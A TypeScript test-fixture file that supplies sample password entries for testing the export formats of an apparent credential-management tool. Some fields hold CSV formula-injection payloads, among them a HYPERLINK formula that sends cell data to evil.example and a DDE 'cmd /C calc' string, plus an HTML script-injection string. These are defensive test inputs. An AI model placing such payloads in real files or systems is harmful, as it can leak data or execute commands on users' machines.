import type { ExportEntry } from "@/server/export/entry";

/**
 * Passwords that exercise every export format's edges: filed under a customer, a contact and a device; several
 * URLs; hidden and plain custom fields; tags; empty values; text that is CSV syntax, a spreadsheet formula, HTML or
 * JSON-ish; non-ASCII and astral characters.
 */
export const SAMPLE_ENTRIES: ExportEntry[] = [
  {
    customer: "Acme Dental",
    contact: null,
    device: "FW-01 (Fortigate)",
    title: "Firewall admin",
    username: "admin",
    password: "Tr0ub4dor&3,\"quoted\"",
    urls: ["https://10.0.0.1:8443/login", "https://fw.acme-dental.example/"],
    notes: "Line one\r\nLine two, with a comma\nLine \"three\"",
    totp: "otpauth://totp/Acme:admin?secret=JBSWY3DPEHPK3PXP&issuer=Acme",
    customFields: [
      { name: "Serial", value: "FGT60F-1234", secret: false },
      { name: "Recovery PIN", value: "482913", secret: true },
    ],
    tags: ["network", "critical"],
  },
  {
    customer: "Acme Dental",
    contact: "Dr. Zoë Ångström",
    device: null,
    title: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    username: "+zoe@acme-dental.example",
    password: "-5+3",
    urls: [],
    notes: "@SUM(1+1)*cmd|' /C calc'!A0",
    totp: "JBSWY3DPEHPK3PXP",
    customFields: [{ name: "=formula name", value: "\tleading tab", secret: false }],
    tags: [],
  },
  {
    customer: "Bäckerei Müller GmbH",
    contact: null,
    device: null,
    title: "Office 365 global admin 🍞",
    username: "admin@baeckerei-mueller.example",
    password: "pässwörd-日本語-😀",
    urls: ["https://portal.office.com"],
    notes: "</script><script>alert(1)</script> & <b>not bold</b>",
    totp: null,
    customFields: [],
    tags: ["m365", "tag, with comma"],
  },
  {
    customer: "Bäckerei Müller GmbH",
    contact: null,
    device: "PRINTER-2",
    title: "Printer web UI",
    username: null,
    password: null,
    urls: [],
    notes: null,
    totp: null,
    customFields: [],
    tags: [],
  },
  {
    customer: "Contoso, Ltd.",
    contact: null,
    device: null,
    title: "Multi-line password holder",
    username: "\rcarriage",
    password: "=1+2\nsecond line",
    urls: ["https://contoso.example/a,b"],
    notes: "",
    totp: null,
    customFields: [{ name: "Null byte", value: "\0start", secret: true }],
    tags: ["@home"],
  },
];

/** `count` generated passwords over `customers` customers, for streaming and size tests and the benchmark. */
export function* generatedEntries(count: number, customers = 500): Generator<ExportEntry> {
  for (let i = 0; i < count; i++) {
    const where = i % 3;
    yield {
      customer: `Customer ${String(i % customers).padStart(4, "0")}`,
      contact: where === 1 ? `Contact ${i % 97}` : null,
      device: where === 2 ? `DEVICE-${i % 211}` : null,
      title: `Service account ${i} for the line-of-business application`,
      username: `svc-${i}@customer${i % customers}.example`,
      password: `P@ss-${i.toString(36)}-x7Qm!2vLr9#kT`,
      urls: [`https://app${i % 50}.customer${i % customers}.example/login`],
      notes: i % 4 === 0 ? `Rotated quarterly. Ticket #${i}.` : null,
      totp: i % 5 === 0 ? "JBSWY3DPEHPK3PXP" : null,
      customFields: i % 6 === 0 ? [{ name: "PIN", value: String(100000 + i), secret: true }] : [],
      tags: i % 2 === 0 ? ["server", "prod"] : [],
    };
  }
}

/** Joins a writer's text pieces (tests only: the point of the writers is not to do this). */
export async function collectText(pieces: AsyncIterable<string>): Promise<string> {
  let text = "";
  for await (const piece of pieces) text += piece;
  return text;
}
